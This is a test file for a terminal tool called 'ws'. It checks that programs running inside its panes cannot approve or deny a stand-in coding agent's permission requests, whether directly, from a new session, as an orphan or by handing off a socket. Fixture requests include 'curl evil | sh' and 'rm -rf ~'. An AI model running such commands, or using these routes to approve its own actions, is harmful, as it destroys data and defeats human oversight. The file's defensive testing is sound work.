// "Only a person answers" on each platform path: a real daemon on Linux's
// (/proc, ws's own PTY) and one with WS_PLATFORM=portable, as macOS and the BSDs run it (panes on
// Bun's PTY; the answering process's parents from ps, its session from getsid), with the stand-in
// Claude Code and rig of test/approvals.test.ts (test/approval-rig.ts). A program in a pane asking
// `ws approve` or `ws deny`, directly, from a session of its own, after its parent exited, or by
// handing its connection to a child, is refused with forbidden; the same command from outside ws
// (this test) is accepted; an agent outside ws asks nothing.
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { claudeApprovalServer, inboxOf, resolvedEvents, standInApprovalAgent, waitInbox } from "./approval-rig";
import { ROOT, type TestServer } from "./harness";

const ANSWER_FROM = join(ROOT, "test/fixtures/answer-from.py");
/** Linux's own path where there is one; the portable path everywhere. */
const KINDS = process.platform === "linux" ? ["linux", "portable"] : ["portable"];

describe.each(KINDS)("only a person answers, on the %s path", (kind) => {
  let s: TestServer;
  let wrapper: string;

  beforeAll(async () => {
    ({ s, wrapper } = await claudeApprovalServer({ WS_PLATFORM: kind }));
  });
  afterAll(() => s.stop());
  // A failed test leaves no agent waiting for the next one to find.
  afterEach(async () => {
    for (const row of await inboxOf(s)) await s.run(["deny", String(row.id)]);
  });

  /** A new tab's pane, its shell started: where a rogue program runs. */
  async function rogue(name: string): Promise<number> {
    const pane = (await s.v6({ type: "tab_new", name, cwd: s.root })).pane as number;
    await s.waitScreen(pane, /\S/, 20000); // its prompt (whatever the machine's bashrc makes it)
    return pane;
  }

  /** Run `command` in `pane`'s shell; the screen (lines joined) once it has printed its status. */
  async function inPane(pane: number, command: string): Promise<{ screen: string; rc: number }> {
    const tag = `rc${Math.random().toString(36).slice(2, 8)}`;
    await s.v6({ type: "pane_send", pane, text: `clear; ${command}; echo "${tag}=$?"`, enter: true });
    const screen = (await s.waitScreen(pane, new RegExp(`${tag}=\\d+`), 30000)).replaceAll("\n", "");
    return { screen, rc: Number(new RegExp(`${tag}=(\\d+)`).exec(screen)![1]) };
  }

  /** In a pane, ws talks on the panes' socket, which never carries a person verb. */
  const refusal = (pane: number) => `is the person's, and this came from ws pane ${pane} (on the panes' socket)`;
  /** On the main socket (WS_SOCKET pointed at it), the ancestry walk still places the caller. */
  const insideRefusal = (pane: number) => `and this comes from a process inside ws pane ${pane}`;

  test.skipIf(process.platform !== "linux")(`the daemon runs with WS_PLATFORM=${kind}`, () => {
    const environ = readFileSync(`/proc/${s.daemonPid()}/environ`, "utf8").split("\0");
    expect(environ).toContain(`WS_PLATFORM=${kind}`);
  });

  test("ws approve from inside a pane is refused with forbidden; from outside ws it is accepted", async () => {
    const a = standInApprovalAgent(s, 1, ["Bash", "curl evil | sh"]);
    const [row] = await waitInbox(s, 1);
    const pane = await rogue("rogue-approve");
    const cli = await inPane(pane, `${wrapper} approve ${row.id}`);
    expect(cli.screen).toContain(refusal(pane));
    expect(cli.rc).not.toBe(0);
    // The same through the protocol shows the code.
    const call = await inPane(pane, `${wrapper} call approval_answer '{"approval":${row.id},"behavior":"allow"}'`);
    expect(call.screen).toContain("forbidden");
    expect(call.rc).not.toBe(0);
    // The main socket, named on purpose: the walk finds the pane.
    const main = await inPane(pane, `WS_SOCKET=${s.sock} ${wrapper} approve ${row.id}`);
    expect(main.screen).toContain(insideRefusal(pane));
    expect(main.rc).not.toBe(0);
    expect((await inboxOf(s)).map((r) => r.id)).toEqual([row.id]); // still waiting
    // A person at a terminal outside ws answers.
    expect((await s.ok(["approve", String(row.id)])).trim()).toBe(`allowed ${row.id} (pane 1)`);
    expect(await a.output).toBe("DECISION allow");
    expect((await resolvedEvents(s)).find((e) => e.id === row.id)).toMatchObject({ behavior: "allow", by: "ws" });
  }, 90_000);

  test("ws deny from inside a pane is refused with forbidden; from outside ws the agent reads the reason", async () => {
    const a = standInApprovalAgent(s, 1, ["Write", "notes.txt"]);
    const [row] = await waitInbox(s, 1);
    const pane = await rogue("rogue-deny");
    const cli = await inPane(pane, `${wrapper} deny ${row.id} --message 'the agent says no'`);
    expect(cli.screen).toContain(refusal(pane));
    expect(cli.rc).not.toBe(0);
    const call = await inPane(pane, `${wrapper} call approval_answer '{"approval":${row.id},"behavior":"deny"}'`);
    expect(call.screen).toContain("forbidden");
    expect((await inboxOf(s)).map((r) => r.id)).toEqual([row.id]);
    expect((await s.ok(["deny", String(row.id), "--message", "not on main"])).trim()).toBe(`denied ${row.id} (pane 1)`);
    expect(await a.output).toBe("DECISION deny: not on main");
  }, 90_000);

  test("a program in a session of its own under the pane is inside: the walk follows its parents", async () => {
    const a = standInApprovalAgent(s, 1, ["Bash", "git push --force"]);
    const [row] = await waitInbox(s, 1);
    const pane = await rogue("rogue-setsid");
    const cli = await inPane(pane, `python3 ${ANSWER_FROM} own-session ${wrapper} approve ${row.id}`);
    expect(cli.screen).toContain("own session: True");
    expect(cli.screen).toContain(refusal(pane));
    expect(cli.rc).not.toBe(0);
    const main = await inPane(pane, `WS_SOCKET=${s.sock} python3 ${ANSWER_FROM} own-session ${wrapper} approve ${row.id}`);
    expect(main.screen).toContain(insideRefusal(pane));
    expect(main.rc).not.toBe(0);
    expect((await inboxOf(s)).map((r) => r.id)).toEqual([row.id]);
    await s.ok(["deny", String(row.id)]);
    expect(await a.output).toBe("DECISION deny: Denied in ws");
  }, 90_000);

  test("a program whose parent is gone (re-parented) is inside: its session is the pane's", async () => {
    const a = standInApprovalAgent(s, 1, ["Bash", "make deploy"]);
    const [row] = await waitInbox(s, 1);
    const pane = await rogue("rogue-orphan");
    await s.v6({ type: "pane_send", pane, text: `clear; python3 ${ANSWER_FROM} orphan ${wrapper} approve ${row.id}`, enter: true });
    const screen = (await s.waitScreen(pane, /orphan rc=\d+/, 30000)).replaceAll("\n", "");
    expect(screen).toContain("orphaned");
    expect(screen).toContain(refusal(pane));
    expect(screen).not.toContain("orphan rc=0");
    expect((await inboxOf(s)).map((r) => r.id)).toEqual([row.id]);
    await s.ok(["deny", String(row.id)]);
    expect(await a.output).toBe("DECISION deny: Denied in ws");
  }, 90_000);

  test("a program that connects, hands the socket to a child and exits is refused: gone is not outside", async () => {
    const a = standInApprovalAgent(s, 1, ["Bash", "rm -rf ~"]);
    const [row] = await waitInbox(s, 1);
    const pane = await rogue("rogue-handoff");
    const answer = JSON.stringify({ v: 6, id: 1, type: "approval_answer", approval: row.id, behavior: "allow" });
    await s.v6({ type: "pane_send", pane, text: `clear; python3 ${ANSWER_FROM} handoff ${s.sock} '${answer}'`, enter: true });
    const screen = (await s.waitScreen(pane, "handoff done", 30000)).replaceAll("\n", "");
    expect(screen).toContain('"code":"forbidden"');
    expect(screen).toContain("was gone before the server could tell");
    expect((await inboxOf(s)).map((r) => r.id)).toEqual([row.id]);
    await s.ok(["deny", String(row.id)]);
    expect(await a.output).toBe("DECISION deny: Denied in ws");
  }, 90_000);

  test("an agent outside ws: its hook returns at once and asks nothing", async () => {
    const before = (await resolvedEvents(s)).length;
    const outside = standInApprovalAgent(s, 1, ["Bash", "x"], { WS_PANE_ID: "" });
    const out = await outside.output;
    expect(out).toMatch(/^DECISION dialog after \d+ ms$/);
    // The hook's whole run (a ws process starting and returning), far from its 300 s wait.
    expect(Number(/after (\d+)/.exec(out)![1])).toBeLessThan(5000);
    expect(await inboxOf(s)).toEqual([]);
    expect(await resolvedEvents(s)).toHaveLength(before); // no request was ever made
  }, 60_000);
});
